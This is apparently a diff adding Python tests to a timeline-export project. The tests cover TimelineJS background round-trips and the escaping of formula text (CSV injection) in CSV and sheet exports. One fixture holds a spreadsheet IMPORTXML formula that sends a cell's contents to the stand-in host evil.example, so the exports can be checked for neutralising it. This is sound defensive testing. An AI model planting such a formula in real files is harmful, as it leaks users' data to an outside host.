@@ -12,11 +12,11 @@ from hypothesis import HealthCheck, given, settings
 from hypothesis import strategies as st
 
 from explorer.core import dates
-from explorer.core.casefile import export_case, import_into, open_case
+from explorer.core.casefile import export_case, import_into, new_case, open_case
 from explorer.core.dates import PartialDate
 from explorer.core.interchange.formats import open_import
 from explorer.core.interchange.html_markdown import html_to_markdown
-from explorer.core.models import EntityKind, Era, Event, Media
+from explorer.core.models import Entity, EntityKind, Era, Event, Media, Relationship
 from explorer.core.store import CaseStore
 from tests.conftest import BUNDLED_JSON
 from tests.interchange.conftest import TIMELINEJS
@@ -75,6 +75,18 @@ def test_the_bundled_case_keeps_what_timelinejs_can_hold(tmp_path: Path) -> None
 _WORDS = st.text(st.characters(codec="utf-8", exclude_categories=("Cs", "Cc", "Zs", "Zl", "Zp")), min_size=1, max_size=8)
 _LINE = st.lists(_WORDS, min_size=1, max_size=5).map(" ".join)
 _MARKDOWN = st.text(max_size=60).map(html_to_markdown)
+
+
+def test_a_background_image_and_colour_round_trip_through_timelinejs_json(tmp_path: Path) -> None:
+    """Both halves of a background survive JSON; the sheet's one Background cell keeps the image."""
+    store = CaseStore.in_memory()
+    store.put_event(Event(uid="e", title="Both", start=PartialDate(1969, 7), background="https://example.org/bg.jpg #000000"))
+    store.put_event(Event(uid="f", title="Colour", start=PartialDate(1970), background="navy"))
+    for name, expected in (("t.json", ["https://example.org/bg.jpg #000000", "navy"]), ("t.csv", ["https://example.org/bg.jpg", "navy"])):
+        export_case(store, tmp_path / name, "timelinejs" if name.endswith("json") else "timelinejs-csv")
+        back = CaseStore.in_memory()
+        open_import(tmp_path / name).write(back)
+        assert [event.background for event in back.iter_events()] == expected
 
 
 @st.composite
@@ -175,3 +187,71 @@ def test_a_relationships_csv_without_kind_columns_still_names_its_entities(tmp_p
     with opened(back) as store:
         assert _ties(store) == ties
         assert _ends(store) == {(uid, name, EntityKind.ORGANIZATION) for uid, name, _ in ends}
+
+
+# Text a spreadsheet would run as a formula (OWASP "CSV injection"), or read as a number, and text
+# that only looks like what the exports write to prevent it (an apostrophe before it).
+FORMULA_TEXTS = ('=IMPORTXML("http://evil.example/?q="&A1,"//a")', "-5%", "+1 555 0100", "@SUM(A1:A9)", "'=already quoted",
+                 "''-two apostrophes", "'tis the season", "'0123")
+_FORMULA_STARTS = tuple("=+-@\t\r")
+
+
+def _raw_cells(path: Path) -> list[list[str]]:
+    with path.open(encoding="utf-8", newline="") as handle:
+        return list(csv.reader(handle))
+
+
+def test_formula_text_is_written_safe_and_read_back_from_the_relationships_csv(tmp_path: Path) -> None:
+    """The relationships CSV once wrote ``=IMPORTXML(…)`` as it was: Google Sheets or Excel ran it."""
+    case, exported, back = tmp_path / "f.case.db", tmp_path / "f.csv", tmp_path / "back.case.db"
+    new_case(case, "Formulas")
+    with opened(case) as store:
+        for index, text in enumerate(FORMULA_TEXTS):
+            store.put_entity(Entity(uid=f"e{index}", kind=EntityKind.COMPANY, name=text))
+        for index, text in enumerate(FORMULA_TEXTS[1:], 1):
+            store.put_relationship(Relationship(
+                uid=f"r{index}", source_uid="e0", target_uid=f"e{index}", type="partner_of", label=text, summary=text,
+                start=PartialDate(-43, 3, 15) if index == 1 else None, end=PartialDate(-43, 12) if index == 1 else None,
+            ))
+        export_case(store, exported, "csv")
+        ties, ends = _ties(store), _ends(store)
+    rows = _raw_cells(exported)
+    assert all(not cell.startswith(_FORMULA_STARTS) for row in rows for cell in row)
+    header = rows[0]
+    first = dict(zip(header, rows[1], strict=True))
+    assert first["source_name"] == "'" + FORMULA_TEXTS[0]
+    assert (first["label"], first["start"], first["end"]) == ("'-5%", "'-0043-03-15", "'-0043-12")
+    assert {row[header.index("label")] for row in rows[1:]} >= {"''=already quoted", "'''-two apostrophes", "'tis the season"}
+    import_into(exported, back)
+    with opened(back) as store:
+        assert _ties(store) == ties
+        assert _ends(store) == ends
+
+
+def test_sheet_cells_are_made_formula_safe_but_years_stay_numbers() -> None:
+    from explorer.core.interchange.timelinejs_sheet import formula_safe_sheet_rows
+
+    headers = ("Year", "Month", "Day", "Time", "End Year", "End Month", "End Day", "End Time", "Display Date", "Headline", "Text")
+    row = ["-500", "3", "15", "", "-44", "", "", "", "-500 (501 BCE)", "-5%", "<p>=1+1</p>"]
+    assert list(formula_safe_sheet_rows(headers, [row])) == [
+        ["-500", "3", "15", "", "-44", "", "", "", "'-500 (501 BCE)", "'-5%", "<p>=1+1</p>"]]
+
+
+def test_formula_text_is_written_safe_and_read_back_from_the_timelinejs_sheet(tmp_path: Path) -> None:
+    case, exported, back = tmp_path / "f.case.db", tmp_path / "f.csv", tmp_path / "back.case.db"
+    new_case(case, "=Formulas")
+    with opened(case) as store:
+        for index, text in enumerate(FORMULA_TEXTS):
+            store.put_event(Event(uid=f"ev-{index}", title=text, start=PartialDate(-499 - index), category=text,
+                                  display_date=text))
+        export_case(store, exported, "timelinejs-csv")
+        before = contents(store)
+    rows = _raw_cells(exported)
+    header = rows[0]
+    assert [row[header.index("Year")] for row in rows[2:]] == [str(-500 - index) for index in range(len(FORMULA_TEXTS))]
+    assert all(not cell.startswith(_FORMULA_STARTS) for row in rows for column, cell in zip(header, row, strict=True)
+               if column != "Year")
+    assert rows[2][header.index("Headline")].startswith("'=IMPORTXML(")
+    import_into(exported, back)
+    with opened(back) as store:
+        assert contents(store) == before
